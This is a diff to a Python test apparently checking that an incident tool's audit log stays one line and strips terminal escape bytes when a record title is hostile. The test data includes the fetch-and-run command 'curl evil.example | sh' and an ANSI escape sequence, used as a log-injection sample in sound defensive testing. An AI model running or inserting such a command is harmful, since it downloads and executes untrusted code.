@@ -94,7 +94,9 @@ def test_a_line_of_the_log_is_one_line_whatever_the_record_says(root: Path) -> N
     assert run(root, "promote", "INC-001", "archived").exit_code == 0
     lines = (root / AUDIT_LOG).read_text(encoding="utf-8").split("\n")
     assert len(lines) == 2
-    assert lines[0].endswith(f"Z] {MEMO}: draft curl evil.example | sh \\x1b[2J → archived")
+    assert f"Z] {MEMO}: draft curl evil.example | sh " in lines[0]
+    assert lines[0].endswith("[2J → archived")
+    assert "\x1b" not in lines[0]
     assert run(root, "promote", "INC-001", "archived").exit_code == 1
     assert (root / AUDIT_LOG).read_text(encoding="utf-8").split("\n") == lines
 
